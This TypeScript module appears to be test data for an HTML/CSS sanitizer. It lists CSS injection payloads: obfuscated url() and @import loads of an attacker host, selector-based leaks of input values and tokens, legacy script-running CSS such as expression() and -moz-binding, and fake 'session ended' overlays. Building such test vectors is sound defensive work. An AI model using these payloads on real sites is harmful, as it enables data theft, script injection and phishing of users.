/** CSS: addresses in every function and spelling, what ran script once, and what takes text out of its place. */
import type { Vector } from './vector.ts'

/** Ways to write an address in a value. */
const values = [
  'url(https://OUT)',
  'url("https://OUT")',
  "url('https://OUT')",
  'url( https://OUT )',
  'URL(//OUT)',
  'u\\72l(https://OUT)',
  '\\75\\72\\6c(https://OUT)',
  '\\000075rl(https://OUT)',
  'url(\\68ttps://OUT)',
  'u/**/rl(https://OUT)',
  'url/**/(https://OUT)',
  'url(/**/https://OUT)',
  'src("https://OUT")',
  'image(url(https://OUT))',
  'image-set("https://OUT" 1x)',
  '-webkit-image-set(url(https://OUT) 1x)',
  'cross-fade(url(https://OUT), red)',
  '-webkit-cross-fade(url(https://OUT), url(//OUT), 50%)',
  '-moz-element(#x), url(https://OUT)',
  'paint(x), url(https://OUT)',
  'linear-gradient(red, blue), url(https://OUT)',
  'var(--x, url(https://OUT))',
  'attr(title type(<url>), url(https://OUT))',
  'if(style(--x): url(https://OUT); else: url(//OUT))',
  'env(x, url(https://OUT))',
  'red url(https://OUT) no-repeat',
  'red;background-image:url(https://OUT)',
  'red}*{background:url(https://OUT)',
  '"}*{background:url(https://OUT)}"',
  'url(https://OUT',
  'url(data:image/svg+xml,<svg/onload=RUN>)',
  'url(javascript:RUN)',
  'url(cid:x), url(https://OUT)',
]

const shorthand: Vector[] = values.flatMap(value => [
  {
    name: `in an attribute: ${value}`,
    make: w => `<p style="background:${fill(value, w).replaceAll('"', '&quot;')}">x</p>`,
  },
  { name: `in a sheet: ${value}`, make: w => `<style>p{background:${fill(value, w)}}</style><p>x</p>` },
])

function fill(text: string, { run, out }: { run: string; out: string }): string {
  return text.replaceAll('RUN', run).replaceAll('OUT', out)
}

/** Properties that take an address. */
const properties =
  `background background-image border-image border-image-source list-style list-style-image cursor
  content filter backdrop-filter mask mask-image -webkit-mask -webkit-mask-image -webkit-mask-box-image clip-path
  shape-outside offset-path fill stroke marker-start -webkit-box-reflect src symbols --x behavior -moz-binding
  -o-link`.split(/\s+/)

const everyProperty: Vector[] = properties.map(
  property =>
    `<p style="${property}: url(https://OUT)">x</p><style>p::before{${property}:url(https://OUT)}</style>`,
)

const sheets: Vector[] = [
  '<style>@import "https://OUT";</style>',
  "<style>@import 'https://OUT'</style>",
  '<style>@import url(https://OUT);</style>',
  '<style>@import url("//OUT") screen;</style>',
  '<style>@IMPORT "https://OUT";</style>',
  '<style>@\\69mport "https://OUT";</style>',
  '<style>@im\\port "https://OUT";</style>',
  '<style>@import/**/"https://OUT";</style>',
  '<style>@import\n"https://OUT";</style>',
  '<style>@charset "utf-8";@import "https://OUT";</style>',
  '<style>@import "https://OUT" layer(x) supports(display:block);</style>',
  '<style>;@import "https://OUT";p{}</style>',
  '<style>p{color:red}@import "https://OUT";</style>',
  '<style>@media screen{@import "https://OUT";p{background:url(https://OUT)}}</style>',
  '<style>@media screen{p{color:red</style><style>}@import "https://OUT";</style>',
  '<style>@media x{}@import "https://OUT"{p{color:red}}</style>',
  '<style>@font-face{font-family:x;src:url(https://OUT)}p{font-family:x}</style><p>x</p>',
  '<style>@font-face{font-family:x;src:local("x"),url(//OUT) format("woff2");unicode-range:U+61}*{font-family:x}</style>abc',
  '<style>@namespace x url(https://OUT);x|p{color:red}</style>',
  '<style>@document url(https://OUT){p{color:red}}</style>',
  '<style>@-moz-document url-prefix("https://"){p{background:url(https://OUT)}}</style>',
  '<style>@supports (display:block){p{background:url(https://OUT)}}</style><p>x</p>',
  '<style>@layer x{p{background:url(https://OUT)}}</style><p>x</p>',
  '<style>@container (width>1px){p{background:url(https://OUT)}}</style><p>x</p>',
  '<style>@scope (body){p{background:url(https://OUT)}}</style><p>x</p>',
  '<style>@starting-style{p{background:url(https://OUT)}}</style><p>x</p>',
  '<style>@page{background:url(https://OUT)}</style>',
  '<style>@property --x{syntax:"<image>";inherits:false;initial-value:url(https://OUT)}p{background:var(--x)}</style><p>x</p>',
  '<style>@counter-style c{system:cyclic;symbols:url(https://OUT)}li{list-style:c}</style><li>x</li>',
  '<style>@keyframes k{from{background:url(https://OUT)}to{background:url(https://OUT)}}p{animation:k 9s}</style><p>x</p>',
  '<style>@font-palette-values --x{font-family:x}@view-transition{navigation:auto}</style>',
  '<style>p{&:hover,&{background:url(https://OUT)}}</style><p>x</p>',
  '<style>p{color:red;@media screen{background:url(https://OUT)}}</style><p>x</p>',
  '<style>p{color:red;/*}*/background:url(https://OUT)}</style><p>x</p>',
  '<style>/*p{}*/p{background:url(https://OUT)}/*</style><p>x</p>',
  '<style>p{color:"\n;background:url(https://OUT)}</style><p>x</p>',
  "<style>p{color:'x;}p{background:url(https://OUT)}</style><p>x</p>",
  '<style><!--p{background:url(https://OUT)}--></style><p>x</p>',
  '<style>--><!-- p{background:url(https://OUT)}</style><p>x</p>',
  '<style><![CDATA[p{background:url(https://OUT)}]]></style><p>x</p>',
  '<style type=text/less>@import (inline) "https://OUT";</style>',
  '<style media="screen,print">p{background:url(https://OUT)}</style><p>x</p>',
  '<style title=x disabled>p{background:url(https://OUT)}</style><p>x</p>',
  '<style>p::before{content:url(https://OUT)}</style><p>x</p>',
  '<style>p::first-line{background:url(https://OUT)}</style><p>x</p>',
  '<style>a:visited{background:url(https://OUT)}</style><a href="https://example.org/">x</a>',
  '<style>a[href^="https"]{background:url(https://OUT)}</style><a href="https://example.org/">x</a>',
  '<style>input[value^=a]{background:url(https://OUT)}</style>',
  '<style>body:has(a[href*=token]){background:url(https://OUT)}</style>',
  '<style>\\70{background:url(https://OUT)}</style><p>x</p>',
  '<style>\0p{background:url(https://OUT)}</style><p>x</p>',
  '<style>\ufeffp{background:url(https://OUT)}</style><p>x</p>',
  '<style>p{background:\uff55\uff52\uff4c(https://OUT)}</style><p>x</p>',
]

/** What ran script in some browser once. */
const ran: Vector[] = [
  '<p style="width:expression(RUN)">x</p>',
  '<p style="width:exp/**/ression(RUN)">x</p>',
  '<p style="width:expr\\65ssion(RUN)">x</p>',
  '<p style="width:EXPRESSION(RUN)">x</p>',
  '<p style="width:\uff45\uff58\uff50\uff52\uff45\uff53\uff53\uff49\uff4f\uff4e(RUN)">x</p>',
  '<p style="x:\\65\\78\\70\\72\\65\\73\\73\\69\\6f\\6e(RUN)">x</p>',
  '<p style="xss:expr/*x*/ession(RUN)">x</p>',
  '<style>p{width:expression(RUN)}</style><p>x</p>',
  '<p style="behavior:url(#default#time2)" onbegin="RUN">x</p>',
  '<p style="behavior:url(https://OUT)">x</p>',
  '<p style="-moz-binding:url(https://OUT#x)">x</p>',
  '<style>p{-moz-binding:url("data:text/xml,<bindings/>#x")}</style><p>x</p>',
  '<p style="-o-link:\'javascript:RUN\';-o-link-source:current">x</p>',
  '<p style="background-image:url(javascript:RUN)">x</p>',
  '<p style="list-style-image:url(\'vbscript:RUN\')">x</p>',
  '<p style="filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src=\'https://OUT\')">x</p>',
  '<p style="-ms-filter:\'progid:DXImageTransform.Microsoft.AlphaImageLoader(src=https://OUT)\'">x</p>',
  '<p style="color:red&#59;background&#58;url&#40;https://OUT&#41;">x</p>',
  '<p style=\'font-family:"x&quot;;background:url(https://OUT)"\'>x</p>',
  "<p style=\"font-family:'x\\';background:url(https://OUT);'\">x</p>",
  '<p style="color:red/*;}*/;background:url(https://OUT)">x</p>',
  '<p style="{}background:url(https://OUT)">x</p>',
  '<p style="color:(;background:url(https://OUT))">x</p>',
  '<p style="color:[;background:url(https://OUT)]">x</p>',
  '<p style="all:unset;background:url(https://OUT)">x</p>',
  '<p STYLE="background:url(https://OUT)">x</p>',
  '<p style="color:red" style="background:url(https://OUT)">x</p>',
]

/** Out of its place: over the page, over its warnings, or over everything. */
const places: Vector[] = [
  '<p style="position:fixed;inset:0;z-index:9999">Your session has ended</p>',
  '<p style="position:absolute;top:-500px">x</p>',
  '<p style="position:sticky;top:0">x</p>',
  '<p style="POSITION:FIXED;top:0">x</p>',
  '<p style="pos\\69tion:fixed">x</p>',
  '<p style="position/**/:fixed">x</p>',
  '<p style="margin:-9999px 0">x</p>',
  '<p style="margin-top:-99em">x</p>',
  '<p style="margin-top:calc(0px - 99em)">x</p>',
  '<p style="margin:min(-99px,0px)">x</p>',
  '<p style="margin: 0 auto -99px">x</p>',
  '<p style="margin:-.5em">x</p>',
  '<p style="text-indent:-9999px">x</p>',
  '<p style="transform:translate(-99px)">x</p>',
  '<p style="translate:-99px;rotate:9deg;scale:99">x</p>',
  '<p style="zoom:99">x</p>',
  '<p style="top:0;left:0;z-index:9">x</p>',
  '<p style="position-anchor:--x;inset-area:top">x</p>',
  '<p style="offset:path(\'M0 0\')">x</p>',
  '<p style="clip:rect(0,0,0,0)">x</p>',
  '<p style="animation:x 1s;transition:all 1s">x</p>',
  '<p style="view-transition-name:x;anchor-name:--x">x</p>',
  '<p style="pointer-events:none;cursor:none;user-select:none">x</p>',
  '<style>html,body{position:fixed;overflow:hidden;height:0}</style>',
  '<style>*{position:absolute!important;inset:0}</style>',
  '<style>a::after{display:none!important}</style><a href="https://OUT">example.org</a>',
  '<style>a:after{content:none!important;color:transparent!important}</style><a href="https://OUT">example.org</a>',
  '<style>#x #y a.z::AFTER{visibility:hidden!important}</style><a href="https://OUT">example.org</a>',
  '<style>a::before{content:"example.org"}</style><a href="https://OUT">x</a>',
  '<style>body::before{content:"Your session has ended"}</style>',
  '<style>[data-leads]{display:none}</style><a href="https://OUT">example.org</a>',
  '<style>.restante-quoted{display:none}</style>',
  '<style>::backdrop{background:red}::view-transition{opacity:0}</style>',
  '<style>:host{display:none}:root{position:fixed}</style>',
]

export const styles: Record<string, Vector[]> = {
  'addresses in CSS': shorthand,
  'properties with addresses': everyProperty,
  'style sheets': sheets,
  'CSS that ran': ran,
  'out of its place': places,
}
